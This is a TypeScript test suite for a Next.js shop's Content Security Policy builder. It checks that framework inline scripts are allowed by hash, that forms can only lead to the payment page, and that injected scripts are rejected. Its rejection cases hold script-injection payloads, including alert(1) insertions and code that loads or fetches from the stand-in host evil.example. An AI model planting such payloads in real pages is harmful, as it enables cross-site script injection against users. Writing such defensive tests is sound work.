import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { documentPolicy, isOwnScript } from '@/lib/server/documents/content-policy';

const origins = { media: ['http://127.0.0.1:4000'], payment: ['https://pay.example'], https: false };
const hashOf = (body: string) => `'sha256-${createHash('sha256').update(body).digest('base64')}'`;
const push = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])';

describe('policy of a document', () => {
  it('blesses the inline scripts of Next by their hash', () => {
    const starts = ['(self.__next_f=self.__next_f||[]).push([0])', push];
    const html = starts.map((body) => `<script>${body}</script>`).join('');
    for (const body of starts) expect(documentPolicy(html, origins)).toContain(hashOf(body));
  });

  it.each([
    'alert(1)',
    'self.__next_f.push([1,alert(1)])',
    'self.__next_f.push([1,"a"]);alert(1)',
    'self.__next_f.push([1,"a"])\nalert(1)//)',
    'self.__next_f.push([1,`$' + '{alert(1)}`])',
    'self.__next_f.push((alert(1),[1]))',
    '(self.__next_f=self.__next_f||[]).push([0]);alert(1)',
    '(self.__next_f=self.__next_f||[]).push([0]);self.__next_f.push([1,"a"]);alert(1)',
    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["https://evil.example/x.js"]})',
    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["../../x.js"]})',
    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"evil":[1]})',
    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"runtimeModuleIds":[alert(1)]})',
    "__NEXT_CLIENT_RESUME=fetch('https://evil.example')",
    "__NEXT_CLIENT_RESUME=fetch(location.pathname+'?_rsc=a'+alert(1),{credentials:'same-origin',headers:{}})",
    '$RC("B:0","S:0");alert(1)',
    'alert(1);$RC("B:0","S:0")',
    '$RC(alert(1),"S:0")',
  ])('leaves a planted script blocked: %s', (body) => {
    expect(isOwnScript(body)).toBe(false);
    expect(documentPolicy(`<main><script>${body}</script></main>`, origins)).not.toContain(hashOf(body));
  });

  it.each([
    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/0j1we-_.js"],"runtimeModuleIds":[94553]});',
    "__NEXT_CLIENT_RESUME=fetch(location.pathname+'?_rsc=xhdorIanPcIpYSsE',{credentials:'same-origin',headers:{'rsc': '1','next-router-segment-prefetch': '/_full'}})",
    'requestAnimationFrame(function(){$RT=performance.now()});',
    '$RC("B:0","S:1f")',
  ])('knows what Next and React write: %s', (body) => {
    expect(isOwnScript(body)).toBe(true);
  });

  it('hashes no data blocks and no files, and never allows inline code as such', () => {
    const html = `<script type="application/ld+json">{"a":1}</script><script src="/x.js">${push}</script>`;
    const policy = documentPolicy(html, origins);
    expect(policy).toContain("script-src 'self';");
    expect(policy).not.toMatch(/script-src[^;]*unsafe|unsafe-eval|\*/);
  });

  it('closes what the shop does not use, and lets forms lead to the payment page only', () => {
    const policy = documentPolicy('', { ...origins, https: true });
    for (const rule of ["default-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"])
      expect(policy).toContain(rule);
    expect(policy).toContain("form-action 'self' https://pay.example");
    expect(policy).toContain('upgrade-insecure-requests');
  });
});
